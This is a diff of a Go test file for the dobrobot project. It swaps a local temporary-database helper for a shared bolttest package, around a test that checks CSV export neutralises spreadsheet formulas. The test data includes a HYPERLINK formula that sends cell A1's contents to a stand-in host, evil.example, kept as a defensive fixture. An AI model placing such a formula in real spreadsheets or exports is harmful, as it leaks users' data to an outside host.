@@ -5,7 +5,6 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
-	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -13,7 +12,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/dobrobot/dobrobot/commands"
-	"github.com/dobrobot/dobrobot/storage"
+	"github.com/dobrobot/dobrobot/storage/bolttest"
 )
 
 // TestCSVExportNeutralisesFormulas: a cell that a spreadsheet would read as
@@ -22,7 +21,7 @@ import (
 // the JSON lines export keeps the text exactly (issue 12, item 8).
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
 	ctx := context.Background()
-	db := openTemp(t)
+	db := bolttest.Open(t)
 	at := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
 	details := []string{
 		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
@@ -102,20 +101,4 @@ func TestNeutraliseCell(t *testing.T) {
 			t.Errorf("neutraliseCell(%q) = %q, want %q", in, got, want)
 		}
 	}
-}
-
-// openTemp opens a bbolt store on a file in a temporary directory and
-// closes it when tb ends.
-func openTemp(tb testing.TB) *storage.DB {
-	tb.Helper()
-	db, err := storage.Open(filepath.Join(tb.TempDir(), "dobrobot.db"))
-	if err != nil {
-		tb.Fatalf("open: %v", err)
-	}
-	tb.Cleanup(func() {
-		if err := db.Close(); err != nil {
-			tb.Errorf("close: %v", err)
-		}
-	})
-	return db
 }
